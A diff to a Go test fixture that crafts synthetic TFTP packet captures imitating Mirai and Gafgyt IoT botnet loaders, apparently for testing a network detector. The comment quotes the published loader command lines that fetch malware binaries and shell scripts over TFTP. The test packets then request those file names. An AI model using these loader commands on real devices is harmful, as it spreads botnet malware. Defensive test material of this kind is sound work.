@@ -269,12 +269,13 @@ func craftedFiles(t testing.TB) []craftedFile {
 		// Today's IoT loaders, after their published command lines: the
 		// Mirai loader's "busybox tftp -g -l dvrHelper -r mirai.<arch>",
 		// the Gafgyt infect line's "tftp <ip> -c get tftp1.sh" and
-		// "tftp -r tftp2.sh -g <ip>", bots named by CPU. busybox and
-		// tftp-hpa send mode octet; busybox adds tsize/blksize only with -b.
+		// "tftp -r tftp2.sh -g <ip>", bots named by CPU. busybox 1.35 sends
+		// octet with "tsize 0" (and blksize with -b), tftp-hpa netascii
+		// unless told otherwise: testdata/pcap/real/busybox-mirai-gafgyt-loader.pcap.
 		add("loader-tftp.pcap", en(
-			udp4(t, victim, infected, 40001, 69, rrq(1, "mirai.arm7", "octet")),
-			udp4(t, victim, infected, 40002, 69, rrq(1, "mirai.mips", "octet")),
-			udp4(t, victim, infected, 40003, 69, rrq(1, "tftp1.sh", "octet")),
+			udp4(t, victim, infected, 40001, 69, rrq(1, "mirai.arm7", "octet", "tsize", "0")),
+			udp4(t, victim, infected, 40002, 69, rrq(1, "mirai.mips", "octet", "tsize", "0")),
+			udp4(t, victim, infected, 40003, 69, rrq(1, "tftp1.sh", "netascii")),
 			udp4(t, victim, infected, 40004, 69, rrq(1, "tftp2.sh", "octet", "blksize", "1468")),
 			udp4(t, victim, infected, 40005, 69, rrq(1, "bin2.sh", "octet")),
 			udp4(t, victim, infected, 40006, 69, rrq(1, "Akiru.MPSL", "octet")),
